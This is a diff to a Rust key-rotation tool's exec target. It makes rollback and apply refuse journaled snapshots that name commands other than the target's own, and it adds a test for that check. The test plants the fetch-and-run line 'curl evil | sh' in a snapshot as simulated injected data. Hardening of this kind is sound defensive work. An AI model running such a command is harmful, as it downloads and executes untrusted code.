@@ -20,6 +20,10 @@
 //! the rotating admin), in a process group of their own that is killed whole when they outlive
 //! the timeout or rekey stops waiting for them (see [`run_sh`]).
 //!
+//! The commands run are this target's own, from the command line that built it: a snapshot read
+//! back from a journal that names other commands is refused, since a journal is data, not a
+//! place to take commands from.
+//!
 //! The target holds no key rekey can read (`current_key_id` is `None`).
 
 use std::ffi::OsStr;
@@ -89,6 +93,22 @@ impl ExecTarget {
     fn local(&self) -> std::sync::MutexGuard<'_, Local> {
         // The guarded data is two plain fields, valid whatever panicked while holding it.
         self.local.lock().unwrap_or_else(|e| e.into_inner())
+    }
+
+    /// The snapshot, if it names this target's own commands.
+    fn own_snapshot(&self, snapshot: &Snapshot) -> Result<ExecSnapshot, TargetError> {
+        let snap: ExecSnapshot = snapshot.to_state(&self.name)?;
+        if snap.command != self.command || snap.rollback_command != self.rollback_cmd {
+            return Err(self.err(ErrorKind::Unusable(format!(
+                "the journaled snapshot names the commands `{}` / `{}`, not this target's `{}` / `{}`; rekey runs \
+                 only the commands given on its command line",
+                snap.command,
+                snap.rollback_command.as_deref().unwrap_or("(none)"),
+                self.command,
+                self.rollback_cmd.as_deref().unwrap_or("(none)"),
+            ))));
+        }
+        Ok(snap)
     }
 
     async fn run(
@@ -162,7 +182,7 @@ impl Target for ExecTarget {
     }
 
     async fn apply(&self, key: &NewKey, snapshot: &Snapshot) -> Result<(), TargetError> {
-        let snap: ExecSnapshot = snapshot.to_state(&self.name)?;
+        let snap = self.own_snapshot(snapshot)?;
         self.local().applied = Some(key.access_key_id.clone());
         let old = snap.old_key_id.unwrap_or_default();
         let env = [
@@ -179,7 +199,7 @@ impl Target for ExecTarget {
     }
 
     async fn rollback(&self, snapshot: &Snapshot) -> Result<(), TargetError> {
-        let snap: ExecSnapshot = snapshot.to_state(&self.name)?;
+        let snap = self.own_snapshot(snapshot)?;
         let (snapshot_taken, applied) = {
             let local = self.local();
             (local.snapshot_taken, local.applied.clone())
@@ -191,7 +211,7 @@ impl Target for ExecTarget {
         }
         let new = applied.or_else(|| self.new_key_id.clone());
         let old = snap.old_key_id.clone().unwrap_or_default();
-        let Some(cmd) = self.rollback_cmd.as_deref().or(snap.rollback_command.as_deref()) else {
+        let Some(cmd) = self.rollback_cmd.as_deref() else {
             return Err(self.err(ErrorKind::Consumers(format!(
                 "`{}` {} with the new key {} and there is no rollback command (--restart-cmd after the target): \
                  whatever it changed still holds the new key; put back {} by hand",
@@ -321,38 +341,6 @@ mod tests {
         assert!(started.elapsed() < Duration::from_secs(3));
     }
 
-    #[tokio::test]
-    async fn rollback_gets_the_key_ids_and_no_secret() {
-        let dir = tempfile::tempdir().unwrap();
-        let log = dir.path().join("rollback");
-        let rollback = format!(
-            "echo \"$REKEY_ACTION $REKEY_OLD_ACCESS_KEY_ID $REKEY_NEW_ACCESS_KEY_ID ${{AWS_SECRET_ACCESS_KEY:-none}}\" >> {}",
-            log.display()
-        );
-        let t = target("true", Some(rollback.clone()), Duration::from_secs(10));
-        let snap = t.snapshot().await.unwrap();
-        // Nothing ran yet in this process: nothing to undo.
-        t.rollback(&snap).await.unwrap();
-        assert!(!log.exists());
-        t.apply(&key(), &snap).await.unwrap();
-        t.rollback(&snap).await.unwrap();
-        t.rollback(&snap).await.unwrap();
-        let want = format!("rollback {OLD_ID} {NEW_ID} none\n");
-        assert_eq!(fs::read_to_string(&log).unwrap(), want.repeat(2));
-
-        // A new process after a crash cannot tell whether the command ran: it runs the rollback.
-        let json = serde_json::to_string(&snap).unwrap();
-        let fresh = target("true", Some(rollback), Duration::from_secs(10)).with_key_ids(Some(OLD_ID.into()), None);
-        fresh.rollback(&serde_json::from_str(&json).unwrap()).await.unwrap();
-        assert!(fs::read_to_string(&log).unwrap().ends_with(&format!("rollback {OLD_ID}  none\n")));
-
-        let failing = target("true", Some("echo cannot >&2; exit 2".into()), Duration::from_secs(10));
-        let snap = failing.snapshot().await.unwrap();
-        failing.apply(&key(), &snap).await.unwrap();
-        let e = failing.rollback(&snap).await.unwrap_err();
-        assert!(e.to_string().contains("rollback command") && e.to_string().contains("cannot"), "{e}");
-    }
-
     /// Whether `pid` is a live process (a zombie waiting to be reaped is not).
     fn alive(pid: &str) -> bool {
         std::fs::read_to_string(format!("/proc/{pid}/stat"))
@@ -414,6 +402,50 @@ mod tests {
         let pid = fs::read_to_string(&pidfile).unwrap().trim().to_string();
         assert!(alive(&pid));
         std::process::Command::new("kill").arg(&pid).status().unwrap();
+    }
+
+    #[tokio::test]
+    async fn a_journal_cannot_choose_the_commands() {
+        let t = target("true", Some("undo.sh".into()), Duration::from_secs(5));
+        let mut snap = t.snapshot().await.unwrap();
+        snap.0["rollback_command"] = serde_json::json!("curl evil | sh");
+        let e = t.rollback(&snap).await.unwrap_err();
+        assert!(e.to_string().contains("only the commands given on its command line"), "{e}");
+        let mut snap = t.snapshot().await.unwrap();
+        snap.0["command"] = serde_json::json!("curl evil | sh");
+        assert!(t.apply(&key(), &snap).await.is_err());
+    }
+
+    #[tokio::test]
+    async fn rollback_gets_the_key_ids_and_no_secret() {
+        let dir = tempfile::tempdir().unwrap();
+        let log = dir.path().join("rollback");
+        let rollback = format!(
+            "echo \"$REKEY_ACTION $REKEY_OLD_ACCESS_KEY_ID $REKEY_NEW_ACCESS_KEY_ID ${{AWS_SECRET_ACCESS_KEY:-none}}\" >> {}",
+            log.display()
+        );
+        let t = target("true", Some(rollback.clone()), Duration::from_secs(10));
+        let snap = t.snapshot().await.unwrap();
+        // Nothing ran yet in this process: nothing to undo.
+        t.rollback(&snap).await.unwrap();
+        assert!(!log.exists());
+        t.apply(&key(), &snap).await.unwrap();
+        t.rollback(&snap).await.unwrap();
+        t.rollback(&snap).await.unwrap();
+        let want = format!("rollback {OLD_ID} {NEW_ID} none\n");
+        assert_eq!(fs::read_to_string(&log).unwrap(), want.repeat(2));
+
+        // A new process after a crash cannot tell whether the command ran: it runs the rollback.
+        let json = serde_json::to_string(&snap).unwrap();
+        let fresh = target("true", Some(rollback), Duration::from_secs(10)).with_key_ids(Some(OLD_ID.into()), None);
+        fresh.rollback(&serde_json::from_str(&json).unwrap()).await.unwrap();
+        assert!(fs::read_to_string(&log).unwrap().ends_with(&format!("rollback {OLD_ID}  none\n")));
+
+        let failing = target("true", Some("echo cannot >&2; exit 2".into()), Duration::from_secs(10));
+        let snap = failing.snapshot().await.unwrap();
+        failing.apply(&key(), &snap).await.unwrap();
+        let e = failing.rollback(&snap).await.unwrap_err();
+        assert!(e.to_string().contains("rollback command") && e.to_string().contains("cannot"), "{e}");
     }
 
     #[tokio::test]
